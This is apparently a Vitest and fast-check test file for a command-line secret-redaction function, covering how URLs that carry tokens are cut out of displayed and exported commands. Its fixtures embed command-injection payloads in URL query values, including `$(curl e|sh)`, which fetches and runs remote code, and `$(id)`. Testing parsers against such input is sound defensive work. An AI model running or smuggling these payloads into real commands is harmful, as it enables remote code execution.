// biome-ignore-all lint/suspicious/noTemplateCurlyInString: ${NAME} references, meant literally.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { withoutArgSecrets, withoutCommandLineSecrets } from "./index.js";
import {
  expectArgFilledBack,
  expectFilledBack,
  expectShownAndExported,
  exportedArgs,
  exportedCommand,
} from "./test-support/spec-cases.js";

// fix172: a URL in a word was read to the first blank, even one inside a run-time part its query
// opens (`?token=$(curl e|sh)a9`), so the export left the payload's rest and the literal after it
// in clear (`https://h/p e|sh)a9`); and a URL written in quotes was read with its closing quotes, so
// `"https://h/p?token=${TOKEN}"` lost its closing quote in the export.

describe("a blank inside a run-time part of a URL's query does not end the URL", () => {
  it.each([
    [
      'srv --url "https://h/p?token=$(curl e|sh)a9"',
      'srv --url "https://h/p?token=$(curl e|sh)"',
      'srv --url "https://h/p"',
    ],
    [
      "srv --url https://h/p?token=$(curl e|sh)a9",
      "srv --url https://h/p?token=$(curl e|sh)",
      "srv --url https://h/p",
    ],
    [
      'srv --url "https://h/p?token=`curl e|sh`a9"',
      'srv --url "https://h/p?token=`curl e|sh`"',
      'srv --url "https://h/p"',
    ],
    [
      'srv --url "https://h/p?token=$(curl e|sh)" --v 1',
      'srv --url "https://h/p?token=$(curl e|sh)" --v 1',
      'srv --url "https://h/p" --v 1',
    ],
    [
      'srv --url "https://h/p?token=Zq9secret$(curl e|sh)Tq8tail&b=2"',
      'srv --url "https://h/p?token=$(curl e|sh)&b=2"',
      'srv --url "https://h/p?b=2"',
    ],
  ])("%s", (line, shown, exported) => {
    expectShownAndExported(line, shown, exported);
    expectFilledBack(line);
  });

  it("a run-time part that never closes ends the URL at its blank, as before", () => {
    expectShownAndExported(
      'srv --url "https://h/p?token=$(curl e|sh"',
      'srv --url "https://h/p?token=$(curl e|sh"',
      'srv --url "https://h/p e|sh"',
    );
  });
});

describe("an argument is one word: a URL in it is read to its end", () => {
  it.each([
    [
      ["--url", "https://h/p?token=$(curl e|sh)"],
      ["--url", "https://h/p"],
    ],
    [
      ["--url", "https://h/p?token=`curl e|sh`a9"],
      ["--url", "https://h/p"],
    ],
    [
      ["--url", "https://h/p?token=$(curl e|sh)a9&b=2"],
      ["--url", "https://h/p?b=2"],
    ],
  ])("%j", (args, safe) => {
    expect(withoutArgSecrets(args)).toEqual(safe);
    expect(exportedArgs(args)).toEqual(safe);
    expectArgFilledBack(args);
  });
});

describe("a URL in quotes ends before the quotes that close it", () => {
  it("a ${TOKEN} value is kept as written, its closing quote too", () => {
    expectShownAndExported(
      'srv --url "https://h/p?token=${TOKEN}"',
      'srv --url "https://h/p?token=${TOKEN}"',
    );
    expectShownAndExported(
      'srv --url "https://h/p?token=${TOKEN}" --v 1',
      'srv --url "https://h/p?token=${TOKEN}" --v 1',
    );
    expectFilledBack('srv --url "https://h/p?token=${TOKEN}"');
  });

  it("a shell's command keeps a quoted ${X} value's quotes in the display", () => {
    const line = "sh -c \"srv --url 'https://h/p?token=${X}'\"";
    expect(withoutCommandLineSecrets(line)).toBe(line);
    expectFilledBack(line);
  });

  it("a literal after the closing quote is still the value's", () => {
    const line = "sh -c \"srv --url 'https://h/p?token=Zq9'secret9\"";
    expect(withoutCommandLineSecrets(line)).not.toContain("secret9");
    expect(exportedCommand(line)).not.toContain("secret9");
    expectFilledBack(line);
  });
});

describe("property", () => {
  it("any ?k=<literal><payload><literal> with k telling: no literal left in clear in the export, the payload shown, fill-back byte for byte", () => {
    const key = fc.constantFrom("token", "api_key", "access_token", "password", "client_secret");
    const payload = fc.constantFrom(
      "$(curl e|sh)",
      "`curl e|sh`",
      "$(id)",
      "`id`",
      "$(echo $(id -u))",
      "${X:-$(id)}",
    );
    const literal = fc.constantFrom("", "Zq9secret", "a9");
    const tail = fc.constantFrom("", "Tq8tail", "b7");
    const quote = fc.constantFrom("", '"');
    const more = fc.constantFrom("", "&b=2", "#frag");
    const rest = fc.constantFrom("", " --v 1", "; srv2");
    fc.assert(
      fc.property(key, payload, literal, tail, more, quote, rest, (k, run, before, after, url2, q, end) => {
        const line = `srv --url ${q}https://h/p?${k}=${before}${run}${after}${url2}${q}${end}`;
        const shown = withoutCommandLineSecrets(line);
        const exported = exportedCommand(line) ?? "";
        expect(shown.split(run).length - 1).toBe(line.split(run).length - 1);
        for (const text of [before, after].filter((text) => text !== "")) {
          expect(shown).not.toContain(text);
          expect(exported).not.toContain(text);
        }
        // No rest of a payload holding a blank is left after the URL in the export (the pair is taken out whole).
        if (/\s/.test(run)) expect(exported).not.toContain("e|sh");
        expectFilledBack(line);
        const args = ["--url", `https://h/p?${k}=${before}${run}${after}${url2}`];
        for (const text of [before, after].filter((text) => text !== ""))
          expect(exportedArgs(args)?.join(" ")).not.toContain(text);
        expectArgFilledBack(args);
      }),
    );
  });
});
